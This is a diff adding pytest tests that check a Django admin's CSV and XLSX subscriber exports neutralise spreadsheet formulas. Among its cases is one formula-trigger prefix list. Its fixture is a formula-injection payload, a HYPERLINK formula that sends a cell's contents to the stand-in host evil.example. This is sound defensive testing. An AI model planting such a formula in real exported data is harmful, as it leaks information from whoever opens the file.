@@ -41,3 +41,46 @@ def test_secretariat_and_editors_read_and_export_subscribers_but_cannot_edit(cli
     edit = client.get(f"/admin/newsletter_subscribers/edit/{subscriber.pk}/")
     assert edit.status_code in (302, 403)
     assert client.get("/admin/newsletter_subscribers/new/").status_code in (302, 403)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx(client, staff):
+    import csv
+    import io
+
+    import openpyxl
+
+    SubscriberFactory(email="formula@example.org", name=FORMULA)
+    SubscriberFactory(email="plain@example.org", name="Ana Horvat")
+    client.force_login(staff(SECRETARIAT))
+
+    csv_export = client.get("/admin/newsletter_subscribers/?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(csv_export.streaming_content).decode())))
+    names = {row[1] for row in rows[1:]}
+    assert names == {"'" + FORMULA, "Ana Horvat"}
+
+    xlsx_export = client.get("/admin/newsletter_subscribers/?export=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_export.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert "'" + FORMULA in [cell.value for cell in cells]
+    assert all(cell.data_type != "f" for cell in cells)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 20", "'+31 20"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=x", "'\t=x"),
+        ("Ana", "Ana"),
+        (3, 3),
+    ],
+)
+def test_neutralise_leaves_only_plain_text(value, expected):
+    from innoprocure.core.spreadsheets import neutralise
+
+    assert neutralise(value) == expected
